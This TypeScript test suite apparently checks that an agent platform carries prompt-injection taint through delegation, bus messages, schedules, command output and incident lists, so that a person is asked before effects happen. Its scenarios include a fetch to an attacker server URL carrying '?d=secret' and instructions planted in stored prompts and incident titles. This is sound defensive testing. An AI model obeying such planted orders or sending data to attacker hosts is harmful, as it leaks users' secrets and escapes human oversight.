// Work that one service hands to another takes along what the turn has read and whose rights it has, over A2A and over
// the bus: a person is asked before it is handed on, and again by the receiver before effects. Each case runs without the
// text from outside too, and one with an agent that may hand on without a question.
import { existsSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { openAccounts } from '@trunkline/accounts';
import {
  FakeGuild,
  JsonServer,
  ObedientModel,
  type OrderedCall,
  startFakePeer,
  waitFor,
} from '@trunkline/testing';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Attack, ask, json, openMode, startAttack } from './attack.suite.ts';

const obedient = new ObedientModel();
const outside = new JsonServer();
const attacker = new JsonServer();
const call = (name: string, given: object = {}): OrderedCall => ({ name, arguments: given });
const [bot, stranger] = ['600000000000000001', '500000000000000001'];
let [attack, guild] = [] as unknown as [Attack, FakeGuild];
let stops: (() => Promise<unknown>)[] = [];
/** Chats of earlier cases. */
let chatsBefore = 0;

beforeAll(async () => {
  outside.on('GET /page', () => ({ headers: { 'content-type': 'text/plain' }, body: 'High at noon.' }));
  await Promise.all([outside.listen(), attacker.listen()]);
  const scout = await startFakePeer({ answer: () => ({ text: 'High at noon.' }) });
  guild = await FakeGuild.start({ 'main-token': { id: bot, name: 'trunk' } });
  attack = await startAttack({
    script: (request) => obedient.reply(request),
    env: {
      ...openMode,
      FETCH_ALLOWED_HOSTS: '127.0.0.1',
      CHAT_BOT_TOKEN: 'main-token',
      CHAT_GUILD_ID: guild.guildId,
      CHAT_API_URL: guild.url,
      SWITCHBOARD_COOLDOWN_MS_CHAT: '0',
    },
    files: {
      'policy.yaml':
        'rules:\n  - { agent: helm, arguments: { path: sealed/** }, decision: deny, reason: Helm writes nothing there. }\n  - { agent: trunkline-agent, arguments: { host: sealed.example }, decision: deny, reason: The agent reads nothing there. }\n',
      'voice/config/users.yaml': 'users: []',
      'agent/config/agent.yaml': JSON.stringify({
        knowledge: { embeddings: 'off' },
        filesystem: { run_command: true },
      }),
      'switchboard/workspace/fleet.yaml': 'roles: { helm: helm }',
      'switchboard/workspace/agents.yaml': `agents: [{ name: scout, url: "${scout.url}", skills: [look] }]`,
      'switchboard/workspace/agents/helm.yaml':
        'name: helm\nrole: orchestrator\nsystemPrompt: Obey.\npublic: true\ntools: [publish_event, report_incident, get_incidents]\npublishes: [note.#]\ncanDelegate: [scout, agent, mate]\nskills: [{ name: chat }]\n',
      'switchboard/workspace/agents/mate.yaml':
        'name: mate\nrole: orchestrator\nsystemPrompt: Obey.\ntools: [get_projects]\nskills: [{ name: note }]\n',
      'switchboard/workspace/routes.d/notes.yaml':
        'name: notes\nwhen: { topic: note.taken }\nthen: { skill: note, agent: mate }\n',
    },
  });
  stops = [attack, scout, guild, outside, attacker].map((each) => () => each.stop());
  await waitFor(async () => {
    const { body } = await json<{ data: { name: string; skills: [] }[] }>(`${board()}/api/agents`);
    return ['scout', 'agent'].every((name) =>
      body.data.some((each) => each.name === name && each.skills.length > 0),
    );
  });
  await waitFor(() => guild.connected === 1);
});
afterAll(async () => {
  for (const stop of stops) await stop();
});
beforeEach(() => {
  chatsBefore = attack.model.chats().length;
});
afterEach(async () => {
  for (const { deny } of await waiting()) await deny();
  await waitFor(async () => (await waiting()).length === 0);
});

const board = () => attack.url('switchboard');
const operator = () => ({ 'x-operator-key': attack.operatorKey() });

interface Waiting {
  where: 'agent' | 'switchboard';
  question: string;
  deny(): Promise<unknown>;
  allow(): Promise<unknown>;
}

/** What waits for a person. */
async function waiting(): Promise<Waiting[]> {
  const [agent, switchboard] = await Promise.all([
    json<{ approvals: { id: string }[] }>(`${attack.url('agent')}/api/approvals`, undefined, operator()),
    json<{ data: { requestId: string }[] }>(`${board()}/api/hitl/pending`, undefined, operator()),
  ]);
  const input = (requestId: string, answer: string) => () =>
    json(`${board()}/api/a2a/input`, { requestId, answer }, operator());
  const approval = (id: string, approve: boolean) => () =>
    json(`${attack.url('agent')}/api/approvals/${id}`, { approve }, operator());
  return [
    ...agent.body.approvals.map((each) => ({
      where: 'agent' as const,
      question: JSON.stringify(each),
      deny: approval(each.id, false),
      allow: approval(each.id, true),
    })),
    ...switchboard.body.data.map((each) => ({
      where: 'switchboard' as const,
      question: JSON.stringify(each),
      deny: input(each.requestId, 'no'),
      allow: input(each.requestId, 'yes'),
    })),
  ];
}

const firstWaiting = () => waitFor(async () => (await waiting())[0]);

/** Handing work on asks where the text was read; a person says yes. */
async function allowHandingOn(where: Waiting['where'], target: string): Promise<void> {
  const held = await firstWaiting();
  expect([held.where, held.question]).toEqual([
    where,
    expect.stringMatching(new RegExp(`delegate_to.*${target}`, 's')),
  ]);
  await held.allow();
}

/** Those of others would be read too, and may hold words of earlier cases. */
async function resolveIncidents(): Promise<void> {
  const url = `${board()}/api/incidents`;
  const { body } = await json<{ data: { id: string }[] }>(url, undefined, operator());
  for (const { id } of body.data) await json(`${url}/${id}/resolve`, {}, operator());
}

let orders = 0;
/** Words that make the model call these tools, one after the other. */
const order = (...calls: OrderedCall[]) => obedient.order(`order-${++orders}`, calls);

/** What the model was told about the last call of a tool in this case. */
function resultOf(tool: string): string | undefined {
  return attack.model
    .chats()
    .slice(chatsBefore)
    .flatMap(({ messages }) =>
      messages.flatMap(({ tool_calls: made }, index) => {
        const isIt = (made as { function: { name: string } }[] | undefined)?.some(
          (each) => each.function.name === tool,
        );
        const next = messages[index + 1];
        return isIt && next?.role === 'tool' ? [String(next.content)] : [];
      }),
    )
    .at(-1);
}

const written = (name: string, service: 'agent' | 'switchboard') =>
  existsSync(join(attack.home, service === 'agent' ? 'agent/workspace' : 'switchboard/files', name));

describe.each([
  ['after text from outside', true],
  ['without it', false],
])('%s', (_, isTainted) => {
  const name = () => `handed-${isTainted}-${orders}.md`;

  it('the agent has voice set a reminder', async () => {
    const set = order(call('set_reminder', { text: 'Eve decides.', in_minutes: 600 }));
    const read = isTainted ? [call('fetch_url', { url: `${outside.url}/page` })] : [];
    const { task } = await ask(
      attack.url('agent'),
      `Look at ${outside.url}/page. ${order(...read, call('delegate_to', { target: 'voice', query: set }))}`,
    );
    expect(task.status.state).toBe(isTainted ? 'input-required' : 'completed');
    if (isTainted) {
      expect(resultOf('set_reminder')).toBeUndefined();
      await allowHandingOn('agent', 'voice');
    }
    expect(await waitFor(() => resultOf('set_reminder'))).toMatch(
      isTainted
        ? /^Error: set_reminder was not run: .*\(fetch_url .*nobody can be asked here/s
        : /^Reminder \w+ is set/,
    );
  });

  it('the agent has voice read an address', async () => {
    const url = `${attacker.url}/?d=secret`;
    const get = order(call('fetch_url', { url }));
    const read = isTainted ? [call('fetch_url', { url: `${outside.url}/page` })] : [];
    attacker.requests.length = 0;
    await ask(
      attack.url('agent'),
      `Look at ${outside.url}/page. ${order(...read, call('delegate_to', { target: 'voice', query: get }))}`,
    );
    if (isTainted) {
      await allowHandingOn('agent', 'voice');
      await waitFor(() => resultOf('delegate_to'));
    }
    expect(attacker.requests.map(({ path }) => path)).toEqual(isTainted ? [] : ['/']);
  });

  it('an agent of the switchboard has the agent write a file', async () => {
    const file = name();
    const write = order(call('write_file', { path: file, content: 'owned' }));
    const read = isTainted ? [call('delegate_to', { target: 'scout', query: 'What is new?' })] : [];
    const asked = ask(board(), order(...read, call('delegate_to', { target: 'agent', query: write })));
    if (isTainted) {
      await allowHandingOn('switchboard', 'agent');
      const held = await firstWaiting();
      expect([held.where, held.question]).toEqual([
        'agent',
        expect.stringMatching(/write_file.*delegate_to scout/s),
      ]);
      await held.deny();
    }
    await asked;
    expect(written(file, 'agent')).toBe(!isTainted);
    // Who asked, and through whom, stands in the audit log.
    const { body } = await json<{
      entries: { subject: string; principal: string; via: string[]; decision: string }[];
    }>(`${attack.url('agent')}/operator/audit?action=tool.call&service=agent&limit=5`, undefined, operator());
    const entry = body.entries.find(({ subject }) => subject === 'write_file');
    expect(entry).toMatchObject({
      principal: 'anonymous:anonymous',
      decision: isTainted ? 'ask' : 'allow',
      via: expect.arrayContaining(['helm', 'switchboard']),
    });
  });

  it('an agent of the switchboard has another one write a file', async () => {
    const file = name();
    const write = order(call('write_file', { path: file, content: 'owned' }));
    const read = isTainted ? [call('delegate_to', { target: 'scout', query: 'What is new?' })] : [];
    const asked = ask(board(), order(...read, call('delegate_to', { target: 'mate', query: write })));
    if (isTainted) {
      await allowHandingOn('switchboard', 'mate');
      const held = await firstWaiting();
      expect(held.question).toMatch(/mate: .*write_file.*delegate_to scout/s);
      await held.deny();
    }
    await asked;
    expect(written(file, 'switchboard')).toBe(!isTainted);
  });

  it('a message on the bus starts an agent that writes a file', async () => {
    const file = name();
    const write = order(call('write_file', { path: file, content: 'owned' }));
    const read = isTainted ? [call('delegate_to', { target: 'scout', query: 'What is new?' })] : [];
    const publish = call('publish_event', { topic: 'note.taken', payload: { content: write } });
    const asked = ask(board(), order(...read, publish));
    if (isTainted) {
      const first = await firstWaiting();
      expect(first.question).toContain('publish_event');
      await first.allow();
      await asked;
      // The leave to publish is none to write: the message has its mark, and so has the turn that it starts.
      const second = await firstWaiting();
      expect(second.question).toMatch(/mate: .*write_file.*delegate_to scout/s);
      await second.deny();
    } else await asked;
    if (!isTainted) await waitFor(() => written(file, 'switchboard'));
    expect(written(file, 'switchboard')).toBe(!isTainted);
  });

  it('a schedule of the agent runs, and another turn reads it', async () => {
    const agent = attack.url('agent');
    const file = name();
    const prompt = order(call('write_file', { path: file, content: 'owned' }));
    const job_id = `tides-${isTainted}`;
    const read = isTainted ? [call('fetch_url', { url: `${outside.url}/page` })] : [];
    const schedule = call('schedule_task', { prompt, when: '0 0 1 1 *', job_id });
    const { task } = await ask(agent, `Look at ${outside.url}/page. ${order(...read, schedule)}`);
    expect(task.status.state).toBe(isTainted ? 'input-required' : 'completed');
    if (isTainted) await (await firstWaiting()).allow();
    await waitFor(async () =>
      (await json(`${agent}/api/scheduler/jobs`, undefined, operator())).text.includes(job_id),
    );
    // Whoever lists schedules reads the prompt, and obeys it.
    const { task: reading } = await ask(agent, order(call('list_schedules')));
    expect(reading.status.state).toBe(isTainted ? 'input-required' : 'completed');
    expect(written(file, 'agent')).toBe(!isTainted);
    rmSync(join(attack.home, 'agent/workspace', file), { force: true });
    for (const { deny } of await waiting()) await deny();
    await json(`${agent}/api/scheduler/jobs/${job_id}/run`, {}, operator());
    if (isTainted) {
      const held = await firstWaiting();
      expect(held.question).toMatch(/write_file.*fetch_url/s);
      await held.deny();
    } else await waitFor(() => written(file, 'agent'));
    await json(`${agent}/api/scheduler/jobs/${job_id}`, undefined, operator(), 'DELETE');
    expect(written(file, 'agent')).toBe(!isTainted);
  });

  it('a command of the agent writes a file, and another turn reads it', async () => {
    const agent = attack.url('agent');
    const file = name();
    const write = order(call('write_file', { path: file, content: 'owned' }));
    const read = isTainted ? [call('fetch_url', { url: `${outside.url}/page` })] : [];
    const run = call('run_command', { command: `echo '${write}' > note-${file}` });
    await ask(agent, `Look at ${outside.url}/page. ${order(...read, run)}`);
    // A command always asks.
    await (await firstWaiting()).allow();
    await waitFor(() => written(`note-${file}`, 'agent'));
    await waitFor(() => resultOf('run_command'));
    const { task } = await ask(agent, order(call('read_file', { path: `note-${file}` })));
    expect(task.status.state).toBe(isTainted ? 'input-required' : 'completed');
    if (isTainted) expect((await firstWaiting()).question).toMatch(/write_file.*fetch_url/s);
    expect(written(file, 'agent')).toBe(!isTainted);
  });

  it('an incident that an agent reported is read by another turn', async () => {
    await resolveIncidents();
    const file = name();
    const title = `Tides ${order(call('write_file', { path: file, content: 'owned' }))}`;
    const read = isTainted ? [call('delegate_to', { target: 'scout', query: 'What is new?' })] : [];
    const reported = ask(board(), order(...read, call('report_incident', { title })));
    if (isTainted) await (await firstWaiting()).allow();
    await reported;
    // The list is read from its file, which takes a moment.
    await waitFor(async () =>
      (await json(`${board()}/api/incidents`, undefined, operator())).text.includes(title),
    );
    const listed = ask(board(), order(call('get_incidents')));
    if (isTainted) {
      const held = await firstWaiting();
      expect(held.question).toMatch(/helm: .*write_file.*delegate_to scout/s);
      await held.deny();
    }
    await listed;
    expect(written(file, 'switchboard')).toBe(!isTainted);
  });
});

it('an agent that policy.yaml relaxes hands on without a question, and the receiver still asks', async () => {
  const url = `${board()}/operator/policy`;
  const { body } = await json<{ text: string }>(url, undefined, operator());
  const relaxed = `${body.text}agents: { helm: { delegation: relaxed } }\n`;
  expect((await json(url, { text: relaxed, before: body.text }, operator(), 'PUT')).status).toBe(200);
  const file = 'handed-relaxed.md';
  const write = order(call('write_file', { path: file, content: 'owned' }));
  const scout = call('delegate_to', { target: 'scout', query: 'What is new?' });
  const asked = ask(board(), order(scout, call('delegate_to', { target: 'agent', query: write })));
  const held = await firstWaiting();
  expect([held.where, held.question]).toEqual([
    'agent',
    expect.stringMatching(/write_file.*delegate_to scout/s),
  ]);
  await held.deny();
  await asked;
  expect(written(file, 'agent')).toBe(false);
  await json(url, { text: body.text, before: relaxed }, operator(), 'PUT');
});

describe('what a rule denies to an agent', () => {
  it.each(['agent', 'mate'] as const)('is not done for it by %s either', async (target) => {
    const file = `sealed/${target}.md`;
    const write = order(call('write_file', { path: file, content: 'owned' }));
    await ask(board(), order(call('delegate_to', { target, query: write })));
    expect(resultOf('write_file')).toContain('Helm writes nothing there.');
    const service = target === 'agent' ? 'agent' : 'switchboard';
    expect(written(file, service)).toBe(false);
    // The rule is about helm, not about the file.
    if (target === 'agent') await ask(attack.url('agent'), write);
    if (target === 'agent') expect(written(file, service)).toBe(true);
  });

  it('is not done by another service that knows it by another name', async () => {
    const read = order(call('fetch_url', { url: 'http://sealed.example/' }));
    await ask(attack.url('agent'), order(call('delegate_to', { target: 'voice', query: read })));
    expect(resultOf('fetch_url')).toContain('The agent reads nothing there.');
  });
});

describe('a guest', () => {
  it.each(['agent', 'mate'])('has no effects through helm and %s', async (target) => {
    const accounts = openAccounts({ home: attack.home, logger: { warn: () => undefined } });
    const { id } = accounts.create({ name: `Gil ${target}`, role: 'guest' });
    const { key } = accounts.createKey(id, 'test');
    accounts.close();
    const file = `guest-${target}.md`;
    const write = order(call('write_file', { path: file, content: 'owned' }));
    await ask(board(), order(call('delegate_to', { target, query: write })), {
      headers: { authorization: `Bearer ${key}` },
    });
    expect(resultOf('delegate_to') ?? resultOf('write_file')).toMatch(/guests may only use tools that read/);
    for (const service of ['agent', 'switchboard'] as const) expect(written(file, service)).toBe(false);
    expect(await waiting()).toEqual([]);
  });

  it('on chat has none either, whatever agents do in between', async () => {
    const write = order(call('write_file', { path: 'guest-chat.md', content: 'owned' }));
    const words = order(call('delegate_to', { target: 'agent', query: write }));
    guild.say({
      content: `<@${bot}> ${words}`,
      channelId: '700000000000000077',
      userId: stranger,
      mentions: [bot],
    });
    await waitFor(() => guild.posts.some(({ channelId }) => channelId === '700000000000000077'));
    expect(resultOf('delegate_to')).toMatch(/guests may only use tools that read/);
    expect(written('guest-chat.md', 'agent')).toBe(false);
    expect(await waiting()).toEqual([]);
  });
});
